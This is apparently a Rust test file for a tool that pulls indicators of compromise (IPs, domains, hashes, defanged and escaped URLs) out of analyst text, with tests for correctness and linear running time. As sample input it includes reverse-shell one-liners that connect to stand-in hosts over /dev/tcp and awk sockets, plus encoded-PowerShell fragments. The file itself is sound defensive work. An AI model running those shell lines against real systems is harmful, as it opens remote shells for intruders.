//! Extraction as its users see it; precision and recall are measured in `tests/corpus.rs`.

use proptest::prelude::*;

use super::unusable::Unlooked;
use super::*;
use crate::cost;

mod unseen;

const MD5: &str = "7809376fe32e44c957347816a47b3d65";
const SHA1: &str = "84f83e30ad109f9c4dd6d21cf5e644ff747046ac";

fn items(text: &str) -> Vec<Found> {
    extract(text, &ExtractOptions::default()).items
}

fn ticked(text: &str) -> Vec<String> {
    extract(text, &ExtractOptions::default()).ticked().map(ToString::to_string).collect()
}

fn reason(text: &str, options: &ExtractOptions) -> Option<Decoy> {
    extract(text, options).items.into_iter().next().and_then(|item| item.reason)
}

#[test]
fn c21_one_span_is_one_indicator() {
    let paste = format!("203[.]0[.]113[.]9\npayload.example.com\n{MD5}\n{SHA1}\nreport.com\ndeadbeef\n");
    let kinds: Vec<&str> = items(&paste).iter().map(|item| item.indicator.kind_name()).collect();
    assert_eq!(kinds, ["IP address", "domain", "MD5", "SHA-1", "domain"]);
    assert!(items(&paste).iter().all(|item| item.ticked));
}

#[test]
fn c31_three_pasted_hashes_are_three_items() {
    let sha256 = "e17be13af6ab78d87b54117f074492e117e156573e2446ce60f56bdcfa2f7862";
    let found = items(&format!("{MD5}\n{SHA1}\r\n{sha256}\n"));
    assert_eq!(found.iter().map(|item| item.line).collect::<Vec<_>>(), [1, 2, 3]);
}

#[test]
fn the_line_and_the_users_remark_are_kept() {
    let text =
        format!("shift notes\n\n- 198[.]51[.]100[.]7  # C2, seen 3x\n| {MD5} | loader | {SHA1} |\nevil.example\n");
    let found = items(&text);
    let told: Vec<(usize, &str)> = found.iter().map(|item| (item.line, &*item.remark)).collect();
    assert_eq!(told, [(3, "C2, seen 3x"), (4, "loader"), (4, "loader"), (5, "")]);
}

#[test]
fn the_other_columns_of_a_row_are_the_remark() {
    let found = items("date,ip,comment\n2026-01-01,198.51.100.7,\"C2, port 443\"\n2026-01-02,198.51.100.8,proxy\n");
    assert_eq!(&*found[0].remark, "2026-01-01, C2, port 443");
    assert_eq!(&*found[1].remark, "2026-01-02, proxy");
}

#[test]
fn an_indicator_is_listed_once_and_its_better_reading_counts() {
    let found = items("the attachment report.com was opened\nhost report.com answered\nreport.com\n");
    assert_eq!(found.len(), 1);
    assert_eq!((found[0].line, found[0].ticked), (1, true));
}

#[test]
fn a_sha_512_is_named_as_not_to_be_looked_up() {
    let extraction = extract(&"ab".repeat(64), &ExtractOptions::default());
    assert!(extraction.items.is_empty());
    assert_eq!(extraction.unusable[0].kind, Unlooked::Sha512);
}

#[test]
fn the_users_own_names_and_sources_are_left_unticked() {
    let options = ExtractOptions { references: vec!["lab.test".into()], internal_names: vec!["bank.example".into()] };
    assert!(matches!(reason("vpn.bank.example", &options), Some(Decoy::Internal(_))));
    assert!(matches!(reason("https://vpn.bank.example/x", &options), Some(Decoy::Internal(_))));
    assert_eq!(reason("https://blog.lab.test/report", &options), Some(Decoy::Reference));
    assert_eq!(reason("https://blog.other.test/report", &options), None);
}

#[test]
fn a_url_is_asked_for_as_it_is_meant_however_its_signs_are_escaped() {
    for (text, url) in [
        (r"CEF:0|a|request=http://evil.test/gate.php?id\=7&u\=a", "http://evil.test/gate.php?id=7&u=a"),
        (r#"log: {"u":"http:\/\/evil.test\/a\/b"}"#, "http://evil.test/a/b"),
        (r#"log: {"u":"http:\\/\\/evil.test\\/a\\/b"}"#, "http://evil.test/a/b"),
        (r#"at "http://evil.test/a\n""#, "http://evil.test/a"),
        (r#"at "http://evil.test/a\r\nHost: x""#, "http://evil.test/a"),
        (r#"at "http://evil.test\r\nHost: x""#, "http://evil.test"),
        (r#"at "http://evil.test/a\tb""#, "http://evil.test/a"),
        (r#"at "http://evil.test/\x41""#, "http://evil.test/"),
        (r#"at \"http://evil.test/a\" x"#, "http://evil.test/a"),
        (r"at http://evil.test/a\u0026b\u003d1", "http://evil.test/a&b=1"),
        (r"at http://evil.test/a\u0022,", "http://evil.test/a"),
        (r"at http://evil.test/a\_b\-c", "http://evil.test/a_b-c"),
        (r"at http://evil.test\a\b.exe", "http://evil.test/a/b.exe"),
        (r"at http://evil.test\\a\\b.exe", "http://evil.test/a/b.exe"),
        (r"at http:\\evil.test\a", "http://evil.test/a"),
        (r"at http://evil.test/a?f=C:\Windows\temp\x", r"http://evil.test/a?f=C:\Windows\temp\x"),
        (r"at http://evil.test/a?f=C:\temp#\x", r"http://evil.test/a?f=C:\temp#\x"),
    ] {
        assert_eq!(ticked(text), [url], "{text}");
    }
}

#[test]
fn of_urls_behind_escaped_line_ends_each_is_found() {
    let text = r#"log "http://a.test/x\nhttp://b.test/y\r\nhttps://c.test/z""#;
    assert_eq!(ticked(text), ["http://a.test/x", "http://b.test/y", "https://c.test/z"]);
}

#[test]
fn a_network_in_quotes_or_before_a_sign_is_a_network_and_no_url() {
    for (text, address) in [
        ("'198.51.100.0/24'", "198.51.100.0"),
        ("net 198.51.100.0/24.", "198.51.100.0"),
        ("net 198.51.100.0/24: x", "198.51.100.0"),
        ("['198.51.100.0/31']", "198.51.100.0"),
        ("net = '198.51.100.0/24'_", "198.51.100.0"),
        ("2001:db8::/32", "2001:db8::"),
        ("'2001:db8:1::/48'", "2001:db8:1::"),
        ("ISSUBSET '2001:db8:7::/64'", "2001:db8:7::"),
    ] {
        let found = items(text);
        let told: Vec<_> = found.iter().map(|item| (item.indicator.value(), item.reason.as_ref())).collect();
        assert_eq!(told, [(address.to_owned(), Some(&Decoy::Network))], "{text}");
    }
    let found: Vec<String> =
        items("198.51.100.0/24-203.0.113.0/24").iter().map(|item| item.indicator.value()).collect();
    assert_eq!(found, ["198.51.100.0", "203.0.113.0"]);
}

#[test]
fn an_address_before_its_protocol_is_an_address_and_no_url() {
    for text in
        ["198.51.100.7/tcp", "198.51.100.7:443/tcp", "'198.51.100.7/UDP'", "198.51.100.7/icmp.", "198.51.100.7:53/udp:"]
    {
        assert_eq!(ticked(text), ["198.51.100.7"], "{text}");
    }
}

#[test]
fn hosts_that_a_shell_or_awk_connects_to_are_found() {
    for (text, host) in [
        ("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "198.51.100.7"),
        ("sh -c 'exec 5<>/dev/udp/evil.test/53;cat <&5'", "evil.test"),
        ("cat>/dev/tcp/2001:db8::7/80", "2001:db8::7"),
        ("s=\"/inet/tcp/0/198.51.100.7/4444\"", "198.51.100.7"),
        ("s = \"/inet4/udp/0/evil.test/53\"", "evil.test"),
        ("'/dev/tcp/198.51.100.7/443'", "198.51.100.7"),
    ] {
        assert_eq!(ticked(text), [host], "{text}");
    }
    assert_eq!(ticked("echo > /dev/tcp/$HOST/$PORT"), Vec::<String>::new());
}

#[test]
fn both_ends_of_a_connection_are_found_where_a_dot_stands_before_the_port() {
    let text = "12:00:00.1 IP 198.51.100.7.443 > 203.0.113.9.50000: Flags [S], seq 1";
    assert_eq!(ticked(text), ["198.51.100.7", "203.0.113.9"]);
    let text = "12:00:00.1 IP6 2001:db8::6810:84e5.443 > 2001:db8::7.50000: Flags [.], ack 1";
    assert_eq!(ticked(text), ["2001:db8::6810:84e5", "2001:db8::7"]);
    for text in ["version 1.2.3.4.5", "OID 198.51.100.7.443", "IP 198.51.100.7.443000 > x"] {
        assert_eq!(ticked(text), Vec::<String>::new(), "{text}");
    }
}

#[test]
fn a_url_whose_host_is_one_number_is_found() {
    for (text, url) in [
        ("GET http://3325256711/inv", "http://3325256711/inv"),
        ("hxxp://3325256711/x", "http://3325256711/x"),
        ("at http://0xc6336407/x", "http://0xc6336407/x"),
        ("at http://3325256711:8080/x", "http://3325256711:8080/x"),
    ] {
        assert_eq!(ticked(text), [url], "{text}");
    }
    for text in ["http://1/a", "http://99999999999/a", "http://0x/a", "http://2130706433/a"] {
        assert_eq!(ticked(text), Vec::<String>::new(), "{text}");
    }
}

#[test]
fn a_name_with_a_label_of_three_x_is_listed_with_its_doubt_and_a_path_with_them_is_a_path() {
    for (text, value) in [
        ("see xxx.evil.test now", "xxx.evil.test"),
        ("see http://xxx.evil.test/a", "http://xxx.evil.test/a"),
        ("see https://cdn.xxx.test/a", "https://cdn.xxx.test/a"),
    ] {
        let found = items(text);
        let told: Vec<_> =
            found.iter().map(|item| (item.indicator.value(), item.ticked, item.reason.clone())).collect();
        assert_eq!(told, [(value.to_owned(), false, Some(Decoy::Incomplete))], "{text}");
    }
    assert_eq!(ticked("see http://198.51.100.7/xxx.sh"), ["http://198.51.100.7/xxx.sh"]);
    assert_eq!(ticked("see http://evil.test/a/xxx.php?x=1"), ["http://evil.test/a/xxx.php?x=1"]);
    assert_eq!(ticked("hxxp://xxx[.]xxx[.]xxx[.]7/a and 198.51.xxx.7"), Vec::<String>::new());
}

#[test]
fn among_defanged_names_a_live_link_is_a_source() {
    let defanged = "a[.]evil.test b[.]evil.test c[.]evil.test d[.]evil.test e[.]evil.test";
    let live = "https://blog.lab.test/report and 198.51.100.7";
    let found = ticked(&format!("{defanged}\n{live}\n"));
    assert!(!found.contains(&"https://blog.lab.test/report".to_owned()));
    assert!(found.contains(&"198.51.100.7".to_owned()));
    assert!(ticked(live).contains(&"https://blog.lab.test/report".to_owned()));
}

#[test]
fn the_words_of_a_lying_link_are_left_unticked() {
    let found = items("<html><body><a href='http://evil.test/x'>https://bank.example/login</a></body></html>");
    let told: Vec<(String, Option<&Decoy>)> =
        found.iter().map(|item| (item.indicator.value(), item.reason.as_ref())).collect();
    assert_eq!(
        told,
        [("http://evil.test/x".to_owned(), None), ("https://bank.example/login".to_owned(), Some(&Decoy::LinkText))]
    );
}

#[test]
fn words_that_only_join_two_indicators_are_no_remark() {
    for text in [
        "198.51.100.7 and 198.51.100.8",
        "a[.]test und b[.]test",
        "a[.]test, and b[.]test",
        "198.51.100.7 or 198.51.100.8",
    ] {
        let remarks: Vec<String> = items(text).iter().map(|item| item.remark.to_string()).collect();
        assert_eq!(remarks, ["", ""], "{text}");
    }
    assert_eq!(&*items("198.51.100.7 and friends")[0].remark, "and friends");
}

#[test]
fn what_is_found_tells_the_heading_that_it_stands_below() {
    let text = "a[.]test\n\nNETWORK\n\nb[.]test\nc[.]test\n\nFiles\n-----\nd[.]test\n## Stage two\ne[.]test\nHosts seen:\n- f[.]test\n";
    let told: Vec<(String, Option<String>)> =
        items(text).iter().map(|item| (item.indicator.value(), item.section.as_deref().map(str::to_owned))).collect();
    let wanted =
        [("a", ""), ("b", "NETWORK"), ("c", "NETWORK"), ("d", "Files"), ("e", "Stage two"), ("f", "Hosts seen")];
    let wanted = wanted.map(|(name, section)| {
        (format!("{name}.test"), Some(section.to_owned()).filter(|section| !section.is_empty()))
    });
    assert_eq!(told, wanted);
    let page = items("<html><body><h2>Network</h2><p>a[.]test</p><h2>Files</h2><p>b[.]test</p></body></html>");
    assert_eq!(page.iter().map(|item| item.section.as_deref()).collect::<Vec<_>>(), [Some("Network"), Some("Files")]);
}

#[test]
fn hostile_shapes_end() {
    for shape in [
        "a:",
        "<",
        "<a ",
        "a=",
        "[.",
        "://",
        "http://a.b,",
        "http://",
        "http://a.b/",
        "'http://",
        "1.1.1.1:",
        "(",
        "&#",
        "a.b@",
        "--x\n",
        "=\n",
        "a/",
        "\\u",
        "\"",
    ] {
        let _ = extract(&shape.repeat(10_000), &ExtractOptions::default());
        let _ = extract(&format!("<html>{}", shape.repeat(4_000)), &ExtractOptions::default());
        let _ = extract(&format!("{{\"{}", shape.repeat(4_000)), &ExtractOptions::default());
    }
}

/// What it costs to read the shape repeated up to this many bytes.
fn cost_of(shape: &str, bytes: usize) -> u128 {
    let text = shape.repeat(bytes / shape.len());
    cost::of(|| extract(&text, &ExtractOptions::default()))
}

/// Pieces of which hostile shapes are made.
const SHAPES: &str = "(a|\\.|\\.\\.|/|\\\\|:|@|\\[|\\]|\\{|\\}|\\(|<|>|\\*|\\*\\*|%|%20|#|\\?|x|,|;|=|&|\"|'|1|f{16}| |://|http://|hxxp|\\[\\.\\]|\\.com|\\[a\\]|<a>|…|CVE-|HKLM\\\\|1\\.2\\.3\\.4|\u{200b}|中|\n){1,5}";

#[test]
fn schemes_without_a_host_cost_no_more_than_a_few_times_what_urls_do() {
    for shape in ["http://", "hxxp://{", "http://a.b/", "'http://", "http://user:x@"] {
        let is_cheap = || cost_of(shape, 64 << 10) < cost_of("http://a.example/ ", 64 << 10) * 24;
        assert!((0..4).any(|_| is_cheap()), "{shape}");
    }
}

#[test]
fn a_line_of_many_values_without_a_blank_costs_what_its_length_is() {
    for shape in ["[a]>1.2.3.4", ">1.2.3.4", "1.2.3.4:", "^1.2.3.4", "1.2.3.4<html>)>"] {
        assert!(cost::is_linear(128 << 10, |bytes| cost_of(shape, bytes)), "{shape}");
    }
}

#[test]
fn pages_of_nothing_but_beginnings_cost_what_their_length_is() {
    for shape in
        ["<style>@import url(", "<style>url(", "<b style=url(", "<b srcdoc=<b srcdoc=", "<b onx=://", "<b href=//a.b"]
    {
        let cost = |bytes: usize| {
            let text = format!("<html>{}", shape.repeat(bytes / shape.len()));
            cost::of(|| extract(&text, &ExtractOptions::default()))
        };
        assert!(cost::is_linear(64 << 10, cost), "{shape}");
    }
}

#[test]
fn long_runs_of_one_sign_beside_an_indicator_cost_what_their_length_is() {
    for sign in ["x", "X", "#", "?", ".", "*", "█", "×"] {
        let cost = |bytes: usize| {
            let text = format!("http://evil.test/a {} 198.51.100.7", sign.repeat(bytes / sign.len()));
            cost::of(|| extract(&text, &ExtractOptions::default()))
        };
        assert!(cost::is_linear(64 << 10, cost), "{sign}");
    }
}

#[test]
fn hashes_beside_colons_and_blanks_cost_what_their_length_is() {
    let hex = "7809376fe32e44c957347816a47b3d65";
    for shape in
        ["X:", "X ", "X::::", "sha512: X\n", "sha256 X ", "\u{1b}]8;;", "\u{1b}[", "http://a.b/;sh", "%253a%252f%252f"]
    {
        let shape = shape.replace('X', hex);
        assert!(cost::is_linear(64 << 10, |bytes| cost_of(&shape, bytes)), "{shape}");
    }
}

#[test]
fn calls_switches_and_attributes_without_an_end_cost_what_their_length_is() {
    for shape in [
        "(1)a",
        "(1)a(0)",
        "atob('",
        "atob('QUFBQUFBQUFBQUFBQUFB')",
        "powershell -e ",
        "powershell -enc QUFBQUFBQUFBQUFBQUFB ",
        "xmlns=\"http://a.b/",
        "\"a.top/b,c",
        "Sessions\\1\\Local\\",
    ] {
        assert!(cost::is_linear(64 << 10, |bytes| cost_of(shape, bytes)), "{shape}");
    }
}

proptest! {
    // A shape that fails is told as it is: making it smaller would take minutes.
    #![proptest_config(ProptestConfig { cases: 32, max_shrink_iters: 0, ..ProptestConfig::default() })]

    #[test]
    fn eight_times_the_text_costs_no_more_than_a_few_times_as_much(shape in SHAPES) {
        prop_assert!(cost::is_linear(64 << 10, |bytes| cost_of(&shape, bytes)), "{:?}", shape);
    }
}

proptest! {
    #[test]
    fn any_text_is_survived_and_what_is_found_is_an_indicator(
        text in "(\\PC|[\\[\\](){}<>.:/@%,;|=&#'\"\\\\ \n]|dot|hxxp|http://|\\.com|\\.example|1\\.2|198\\.51\\.100\\.7|<html>|<a href=|From: |To: |=3D|&amp;){0,60}"
    ) {
        for item in items(&text) {
            prop_assert_eq!(item.ticked, item.reason.is_none());
            prop_assert!(item.line <= text.matches('\n').count() + 1, "{:?}", item);
            let again = crate::ioc::classify(&item.indicator.value());
            prop_assert!(again.is_ok(), "{:?}: {:?}", item, again);
        }
    }

    #[test]
    fn a_defanged_indicator_in_a_sentence_is_found(name in "[a-z]{3,10}\\.[a-z]{3,10}\\.(example|com|test)", number in 1u8..250) {
        let options = ExtractOptions::default();
        for format in crate::ioc::Defang::ALL {
            let domain = crate::ioc::classify(&name).unwrap();
            let address = crate::ioc::classify(&format!("203.0.113.{number}")).unwrap();
            let text = format!("It asks {} and {}.", crate::ioc::defang(&domain, *format), crate::ioc::defang(&address, *format));
            let found = extract(&text, &options);
            prop_assert!(found.ticked().any(|indicator| *indicator == domain), "{}", text);
            prop_assert!(found.ticked().any(|indicator| *indicator == address), "{}", text);
        }
    }
}
